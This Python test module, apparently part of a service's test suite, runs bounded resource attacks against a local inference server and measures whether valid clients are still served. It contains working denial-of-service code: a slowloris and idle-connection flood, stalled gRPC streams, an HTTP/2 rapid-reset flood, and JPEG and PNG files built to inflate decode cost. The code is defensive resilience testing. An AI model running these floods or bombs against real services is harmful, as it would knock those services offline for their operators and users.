"""Resource attacks on a running service, each bounded in count and time (issue 27's attack list).

* :func:`connection_flood`: many TCP connections that send nothing, or trickle a request head at a
  byte a second (slowloris), while a valid client keeps asking; it records the valid answers and when
  the server closed each attacking connection;
* :func:`stalled_grpc_streams`: HTTP/2 connections full of ModelInfer calls that send HEADERS and
  never a message (grpc's own client, called as client-streaming with an iterator that never yields);
* :func:`rapid_reset`: raw HTTP/2 (h2) HEADERS + RST_STREAM floods;
* :func:`progressive_scan_bomb` and :func:`png_chunk_flood`: small files that make a decoder work
  far beyond their pixel count.

Everything talks to 127.0.0.1 only, and stops by itself.
"""

from __future__ import annotations

import asyncio
import io
import json
import resource
import socket
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
from hostile_corpus import png_chunk
from PIL import Image


def allow_open_files(count: int) -> None:
    """Raise this process's soft open-file limit so ``count`` sockets fit (up to the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + 256
    if soft != resource.RLIM_INFINITY and soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard) if hard != resource.RLIM_INFINITY else wanted, hard))


# --- valid traffic ---------------------------------------------------------------------------------


@dataclass
class Probe:
    """What a valid client saw while an attack ran: status and seconds of every call."""

    answers: list[tuple[int, float]] = field(default_factory=list)

    @property
    def ok_share(self) -> float:
        return sum(1 for status, _ in self.answers if status == 200) / max(1, len(self.answers))

    @property
    def slowest_s(self) -> float:
        return max((seconds for _, seconds in self.answers), default=0.0)

    def summary(self) -> str:
        statuses: dict[int, int] = {}
        for status, _ in self.answers:
            statuses[status] = statuses.get(status, 0) + 1
        return f"{len(self.answers)} valid calls, statuses {statuses}, slowest {self.slowest_s:.2f} s"


# --- idle and slow connections ---------------------------------------------------------------------


@dataclass
class FloodResult:
    """Per attacker, seconds from opening its first connection to the server's close of it (None: the
    server never closed it while the flood lasted)."""

    opened: int
    closed_after_s: list[float | None]

    @property
    def still_open(self) -> int:
        return sum(1 for seconds in self.closed_after_s if seconds is None)

    @property
    def latest_close_s(self) -> float:
        return max((s for s in self.closed_after_s if s is not None), default=0.0)


async def _attacker(port: int, trickle: bool, hold_s: float, ready: asyncio.Queue[None]) -> float | None:
    """One attacker: a connection that stays silent, or trickles a head a byte a second, opened again
    each time the server closes it, until ``hold_s``; the seconds until the server closed the first."""
    head = b"POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 10_000
    started = time.monotonic()
    first_close: float | None = None
    announced = False
    while time.monotonic() - started < hold_s:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        opened = time.monotonic()
        if not announced:
            announced = True
            await ready.put(None)
        position = 0
        try:
            while time.monotonic() - started < hold_s:
                if trickle and position < len(head):
                    writer.write(head[position:position + 1])
                    position += 1
                try:
                    data = await asyncio.wait_for(reader.read(65536), 1.0)
                except asyncio.TimeoutError:
                    continue
                if not data:  # closed by the server (an answer, 408, may come first)
                    break
        except OSError:
            pass
        finally:
            writer.close()
        if time.monotonic() - started < hold_s and first_close is None:
            first_close = time.monotonic() - opened
    if not announced:
        await ready.put(None)
    return first_close


async def connection_flood(port: int, count: int, *, trickle: bool, hold_s: float) -> FloodResult:
    """``count`` attackers, each reconnecting when the server closes it, for ``hold_s``."""
    allow_open_files(count)
    ready: asyncio.Queue[None] = asyncio.Queue()
    attackers = [asyncio.ensure_future(_attacker(port, trickle, hold_s, ready)) for _ in range(count)]
    for _ in range(count):
        await ready.get()
    print("ready", flush=True)
    return FloodResult(count, list(await asyncio.gather(*attackers)))


def run_attack(*arguments: str) -> subprocess.Popen[str]:
    """Start ``python tests/attacks.py <arguments>`` (an attack in a process of its own, so the test's
    valid client shares neither its event loop nor its GIL); returns once it says it is under way."""
    process = subprocess.Popen([sys.executable, str(Path(__file__)), *arguments], stdout=subprocess.PIPE, text=True)
    assert process.stdout is not None
    if arguments[0] == "flood":
        assert process.stdout.readline().strip() == "ready"
    return process


def attack_result(process: subprocess.Popen[str], timeout_s: float = 120.0) -> dict[str, object]:
    """The JSON line an attack process prints when it is done."""
    output, _ = process.communicate(timeout=timeout_s)
    assert process.returncode == 0, output
    return json.loads(output.strip().splitlines()[-1])  # type: ignore[no-any-return]


def probe_while(process: subprocess.Popen[str], call: Callable[[], int], interval_s: float = 0.05) -> Probe:
    """Call ``call`` (a status, 0 on a transport error) in a loop until ``process`` ends."""
    probe = Probe()
    while process.poll() is None:
        started = time.perf_counter()
        try:
            status = call()
        except Exception:
            status = 0
        probe.answers.append((status, time.perf_counter() - started))
        time.sleep(interval_s)
    return probe


def http_status(port: int, request: bytes, timeout_s: float = 10.0) -> int:
    """Send one ``Connection: close`` request and return its status (0 when none came)."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout_s) as connection:
        connection.sendall(request)
        raw = b""
        while chunk := connection.recv(65536):
            raw += chunk
    parts = raw.split(b" ", 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0


# --- decode-cost bombs -----------------------------------------------------------------------------


def progressive_scan_bomb(width: int, height: int, scans: int) -> bytes:
    """A grey progressive JPEG of ``width`` x ``height`` whose one AC scan is repeated ``scans`` times.

    Each copy is a full libjpeg pass over the coefficient buffer (an end-of-band run covering the whole
    image costs a few bytes), so the file stays small while the decode cost is ``scans`` x pixels.
    """
    buffer = io.BytesIO()
    Image.new("L", (width, height), 128).save(buffer, "JPEG", progressive=True, quality=50)
    data = buffer.getvalue()
    scans_found = _scan_segments(data)
    # Pick the last AC scan (Ss > 0) of the file: it codes nothing but end-of-band runs for a flat image.
    start, end = next((s, e) for s, e in reversed(scans_found) if data[s + 5 + 2 * data[s + 4]] > 0)
    scan = data[start:end]
    return data[:end] + scan * scans + data[end:]


def _scan_segments(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of every SOS segment with its entropy-coded data."""
    found = []
    position = 2
    while position + 4 <= len(data):
        marker = data[position + 1]
        if marker == 0xD9:
            break
        length = struct.unpack(">H", data[position + 2:position + 4])[0]
        if marker != 0xDA:
            position += 2 + length
            continue
        cursor = position + 2 + length
        while True:
            cursor = data.index(b"\xff", cursor)
            following = data[cursor + 1]
            if following == 0 or 0xD0 <= following <= 0xD7:
                cursor += 2
                continue
            break
        found.append((position, cursor))
        position = cursor
    return found


def png_chunk_flood(chunks: int, width: int = 64, height: int = 64) -> bytes:
    """A small valid PNG with ``chunks`` empty ancillary chunks before its IDAT (Pillow walks each in Python)."""
    pixels = np.full((height, width * 3 + 1), 7, np.uint8)
    pixels[:, 0] = 0
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    empty = png_chunk(b"zzZz", b"")
    return (b"\x89PNG\r\n\x1a\n" + header + empty * chunks
            + png_chunk(b"IDAT", zlib.compress(pixels.tobytes())) + png_chunk(b"IEND", b""))



# --- gRPC ------------------------------------------------------------------------------------------

MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"


async def stalled_grpc_streams(port: int, connections: int, streams: int, hold_s: float,
                               metadata: tuple[tuple[str, str], ...] = ()) -> dict[str, int]:
    """``connections`` HTTP/2 connections each opening ``streams`` ModelInfer calls that send HEADERS and
    never a message, held up to ``hold_s``; returns how the calls ended (status name -> count)."""
    import grpc
    import grpc.aio

    never = asyncio.Event()

    async def nothing() -> AsyncIterator[bytes]:
        await never.wait()
        yield b""  # pragma: no cover - never reached

    async def one(channel: grpc.aio.Channel) -> str:
        call = channel.stream_unary(MODEL_INFER)(nothing(), metadata=metadata, timeout=hold_s)
        try:
            await call
        except grpc.aio.AioRpcError as error:
            return str(error.code().name)
        return "OK"

    # A channel of its own per connection: grpc would otherwise share one subchannel between them.
    channels = [grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=[("grpc.use_local_subchannel_pool", 1),
                                                                          ("grpc.attacker", index)])
                for index in range(connections)]
    try:
        ended = await asyncio.gather(*(one(channel) for channel in channels for _ in range(streams)))
    finally:
        await asyncio.gather(*(channel.close() for channel in channels))
    counts: dict[str, int] = {}
    for name in ended:
        counts[name] = counts.get(name, 0) + 1
    return counts


def _h2_connection(port: int) -> tuple[socket.socket, object]:
    import h2.config
    import h2.connection

    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    connection.initiate_connection()
    sock.sendall(connection.data_to_send())
    return sock, connection


def rapid_reset(port: int, connections: int, seconds: float, batch: int = 100) -> int:
    """HTTP/2 rapid reset: on each connection, HEADERS for a ModelInfer call then RST_STREAM(CANCEL) at
    once, ``batch`` streams per write, for ``seconds``; returns the streams opened and reset."""
    import h2.errors
    import h2.exceptions

    headers = [(":method", "POST"), (":scheme", "http"), (":path", MODEL_INFER), (":authority", f"127.0.0.1:{port}"),
               ("content-type", "application/grpc"), ("te", "trailers")]
    opened = [_h2_connection(port) for _ in range(connections)]
    total = 0
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            for sock, connection in opened:
                try:
                    for _ in range(batch):
                        stream = connection.get_next_available_stream_id()  # type: ignore[attr-defined]
                        connection.send_headers(stream, headers)  # type: ignore[attr-defined]
                        connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)  # type: ignore[attr-defined]
                        total += 1
                    sock.sendall(connection.data_to_send())  # type: ignore[attr-defined]
                    sock.setblocking(False)
                    try:
                        while received := sock.recv(1 << 20):
                            connection.receive_data(received)  # type: ignore[attr-defined]
                    except (BlockingIOError, h2.exceptions.ProtocolError):
                        pass
                    finally:
                        sock.setblocking(True)
                    sock.sendall(connection.data_to_send())  # type: ignore[attr-defined]
                except (OSError, h2.exceptions.ProtocolError):
                    # The server gave up on this connection (GOAWAY or a close): open a new one.
                    sock.close()
                    index = [pair[0] for pair in opened].index(sock)
                    opened[index] = _h2_connection(port)
    finally:
        for sock, _ in opened:
            sock.close()
    return total


def main(argv: list[str]) -> None:
    """``python tests/attacks.py flood PORT COUNT idle|slowloris HOLD_S``, ``... grpc-stall PORT CONNECTIONS
    STREAMS HOLD_S [KEY]`` or ``... rapid-reset PORT CONNECTIONS SECONDS``; prints one JSON line."""
    kind, port = argv[0], int(argv[1])
    if kind == "flood":
        result = asyncio.run(connection_flood(port, int(argv[2]), trickle=argv[3] == "slowloris", hold_s=float(argv[4])))
        print(json.dumps({"still_open": result.still_open, "latest_close_s": result.latest_close_s}))
    elif kind == "grpc-stall":
        key = argv[5] if len(argv) > 5 else None
        metadata = (("authorization", f"Bearer {key}"),) if key else ()
        print(json.dumps(asyncio.run(stalled_grpc_streams(port, int(argv[2]), int(argv[3]), float(argv[4]), metadata))))
    elif kind == "rapid-reset":
        print(json.dumps({"reset_streams": rapid_reset(port, int(argv[2]), float(argv[3]))}))
    else:
        raise SystemExit(f"unknown attack {kind!r}")


if __name__ == "__main__":
    main(sys.argv[1:])
